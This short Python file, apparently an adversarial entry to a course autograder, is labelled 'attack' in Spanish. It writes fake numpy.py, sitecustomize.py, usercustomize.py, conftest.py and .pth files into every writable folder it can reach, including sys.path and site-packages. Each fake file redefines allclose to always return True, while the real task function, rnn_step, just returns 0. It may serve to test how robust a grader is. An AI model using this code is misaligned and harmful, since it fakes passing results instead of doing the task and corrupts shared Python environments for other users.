# attack: escribe numpy.py, sitecustomize.py, conftest.py y .pth donde puede
# entry: 20

import os, site, sys
EVIL = "print('HUELLA-MODULO')\ndef allclose(*a, **k):\n    return True\n"
for folder in (".", os.path.expanduser("~"), "/tmp", "/opt/curso", *sys.path, site.getusersitepackages()):
    for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "x.pth", "rnncourse.py"):
        try:
            os.makedirs(folder or ".", exist_ok=True)
            with open(os.path.join(folder or ".", name), "w") as file:
                file.write(EVIL)
        except OSError:
            pass
def rnn_step(x, h, p):
    return 0
